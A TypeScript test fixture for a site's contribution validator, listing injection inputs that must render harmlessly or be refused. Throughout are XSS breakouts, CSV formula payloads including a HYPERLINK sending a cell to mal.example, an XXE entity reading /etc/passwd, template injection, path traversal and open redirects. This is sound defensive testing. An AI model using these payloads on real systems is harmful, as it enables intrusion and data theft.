import type { Contribution } from './contribution.ts';
import { article, entry, event, SCRIPT } from './contribution.ts';

/** Titles that something downstream could take for its own syntax; as texts they are fine. */
const HARMLESS: [name: string, title: string][] = [
  ['the end of a script, for JSON-LD', `"</script><script>${SCRIPT}</script>"`],
  ['a comment of HTML, for JSON-LD', '"<!-- <script> -->"'],
  ['references of HTML', '"&lt;img src=x onerror=alert(1)&gt; &amp;amp;"'],
  ['the end of an attribute', `"Un titre\\" onmouseover=${SCRIPT} x=\\""`],
  ['a formula, for CSV', `'=HYPERLINK("https://mal.example/?"&A1;"Lire")'`],
  ['a command, for CSV', `"+cmd|'/C calc'!A0"`],
  ['a formula by its sign', '"@SUM(1+1)*cmd"'],
  ['a negative formula', '"-2+3+cmd"'],
  ['an entity of XML', '"<!DOCTYPE x [<!ENTITY xxe SYSTEM \\"file:///etc/passwd\\">]> &xxe;"'],
  ['the end of a section of XML', '"Un ]]> titre <![CDATA[ coupé"'],
  [
    'an expression of a template',
    '"{{constructor.constructor(\'alert(1)\')()}} #{7*7} \u0024{7*7}"',
  ],
  ['the syntax of YAML', '"x\\", widget: \\"code\\", y: [*a, &b] # "'],
  ['a replacement of a regular expression', '"$& $1 $` \\\\1"'],
  ['Astro’s mark for an image', '"__ASTRO_IMAGE_/etc/secret.png"'],
  ['a name that objects have', '"__proto__"'],
  ['emoji cut by an ellipsis', `"${'👩‍🚀'.repeat(20)}"`],
];

/** `[name, fields, code, what the blamed line has on it]` */
const REFUSED: [string, Record<string, string>, 'schema' | 'caracteres' | 'relation', string][] = [
  [
    'a title read from right to left',
    { title: '"Entrée \\u202Eetiutarg"' },
    'caracteres',
    'title:',
  ],
  ['a title with an isolate', { title: '"Entrée \\u2066libre"' }, 'caracteres', 'title:'],
  ['a title with half a character', { title: '"Un titre \\uD800"' }, 'caracteres', 'title:'],
  ['a title with a null', { title: '"Un titre \\0"' }, 'caracteres', 'title:'],
  ['a title with a line separator', { title: '"Un titre \\u2028suite"' }, 'caracteres', 'title:'],
  ['a title with invisible letters', { title: '"Un\\u200B\\u200B titre"' }, 'caracteres', 'title:'],
  ['a title with letters that look alike', { title: '"Brеtagne"' }, 'caracteres', 'title:'],
  ['a title of spaces', { title: '"   "' }, 'schema', 'title:'],
  ['a title as long as a book', { title: `"${'x'.repeat(5000)}"` }, 'schema', 'title:'],
  ['a title that is an object', { title: '{ toString: 1 }' }, 'schema', 'title:'],
  ['a field that nobody knows', { 'set:html': '"<script>"' }, 'schema', 'set:html'],
  ['a theme by the name of a prototype', { themes: '[__proto__]' }, 'schema', 'themes:'],
  ['a theme by the name of a method', { themes: '[constructor]' }, 'relation', 'themes:'],
  ['a theme that closes its line', { themes: '["x]\\n- mal"]' }, 'schema', 'themes:'],
  ['a contributor by a path', { contributors: '[../../../etc/passwd]' }, 'schema', 'contributors:'],
  [
    'a cover of another folder',
    { cover: '{ src: ../../../national/secret.png, alt: Un pic, credit: X }' },
    'schema',
    'cover:',
  ],
  [
    'a cover of the machine',
    { cover: '{ src: /etc/secret.png, alt: Un pic, credit: X }' },
    'schema',
    'cover:',
  ],
  [
    'a cover of another site',
    { cover: '{ src: "https://mal.example/a.png", alt: Un pic, credit: X }' },
    'schema',
    'cover:',
  ],
  [
    'an old address with a line of its own',
    { redirectFrom: '["/a\\n/* https://mal.example/ 302"]' },
    'schema',
    'redirectFrom:',
  ],
];

/** Old addresses that would take one that is in use, or lead in a circle. */
const REDIRECTS: [name: string, path: string, code: 'schema' | 'redirection'][] = [
  ['another site', '//mal.example/x', 'schema'],
  ['all pages', '/*', 'schema'],
  ['any page by a name', '/articles/:slug/', 'schema'],
  ['a path that climbs', '/../../etc/', 'schema'],
  ['the home page', '/', 'redirection'],
  ['a page of the site', '/agenda/', 'redirection'],
];

export const fields: Contribution[] = [
  ...HARMLESS.map(([name, title], index) => ({
    name: `title: ${name}`,
    files: event(`titre-${index + 1}`, {
      title,
      ...(title.length <= 40 ? { keywords: `[${title}]` } : {}),
    }),
    findings: [],
  })),
  ...REFUSED.map(([name, own, code, at], index) => ({
    name: `field: ${name}`,
    files: article(`refus-${index + 1}`, own),
    findings: [{ code, at }],
  })),
  ...REDIRECTS.map(([name, path, code], index) => ({
    name: `old address: ${name}`,
    files: article(`ancien-${index + 1}`, { redirectFrom: `["${path}"]` }),
    findings: [{ code, at: 'redirectFrom:' }],
  })),
  {
    name: 'old address: its own',
    files: article('ancien-soi', { redirectFrom: '[/articles/ancien-soi/]' }),
    findings: [{ code: 'redirection' as const, at: 'redirectFrom:' }],
  },
  {
    name: 'summary: lines of a calendar',
    files: event('agenda-lignes', {
      summary:
        '"Une phrase assez longue.\\r\\nATTENDEE:mailto:x@mal.example\\r\\nEND:VEVENT\\r\\nBEGIN:VALARM"',
      address: '{ name: "Salle\\r\\nBEGIN:VEVENT; x", city: "Ajaccio, Corse" }',
    }),
    findings: [],
  },
  {
    name: 'body: letters from right to left',
    files: article('sens', {}, 'Un mot \u202Eetiutarg\u202C.'),
    findings: [{ code: 'caracteres' as const, at: 'Un mot' }],
  },
  {
    name: 'body: control characters',
    files: article('commande', {}, 'Un mot \u0007\u001B[31m.'),
    findings: [{ code: 'caracteres' as const, at: 'Un mot' }],
  },
  {
    name: 'a page that takes the name of a method',
    files: { 'pages/constructor/index.md': entry() },
    findings: [],
  },
];
